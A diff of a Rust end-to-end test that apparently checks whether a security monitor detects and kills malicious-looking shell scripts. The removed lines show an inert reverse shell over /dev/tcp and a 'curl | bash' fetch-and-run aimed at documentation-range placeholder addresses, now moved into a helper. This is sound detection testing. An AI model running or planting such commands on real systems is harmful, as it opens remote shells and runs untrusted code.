@@ -9,6 +9,7 @@ use std::{
 
 use e2e::{
     cgroup::{Cgroup, enter},
+    drill::{malice, property},
     node::Node,
     shell::quiet,
 };
@@ -19,10 +20,7 @@ const ID: &str = "00000000000000000000000000000000000000000000000000000000000000
 
 /// Malicious by any model, and inert: `:` runs instead. It waits for a child, and says so if nobody ends it.
 fn attack(name: &str, survived: &Path) -> String {
-    format!(
-        ": || bash -i >& /dev/tcp/192.0.2.1/4444 0>&1; : || curl -s http://192.0.2.7/{name} | bash\nsleep 3 & wait; echo {name} > {}",
-        survived.display()
-    )
+    format!("{}\nsleep 3 & wait; echo {name} > {}", malice(name), survived.display())
 }
 
 fn start(text: &str, procs: Option<&Path>) -> Child {
@@ -36,16 +34,6 @@ fn start(text: &str, procs: Option<&Path>) -> Child {
 
 fn is_killed(status: ExitStatus) -> bool {
     status.signal() == Some(libc::SIGKILL)
-}
-
-fn property<'a>(findings: &'a [Value], name: &str, key: &str) -> &'a Value {
-    let is_it = |finding: &&Value| {
-        let text = finding["processes"][0]["script"]["contents"].as_str();
-        text.is_some_and(|text| text.contains(&format!("192.0.2.7/{name} ")))
-    };
-    let finding =
-        findings.iter().find(is_it).unwrap_or_else(|| panic!("no finding of {name}: {findings:#?}"));
-    &finding["sourceProperties"][key]
 }
 
 #[test]
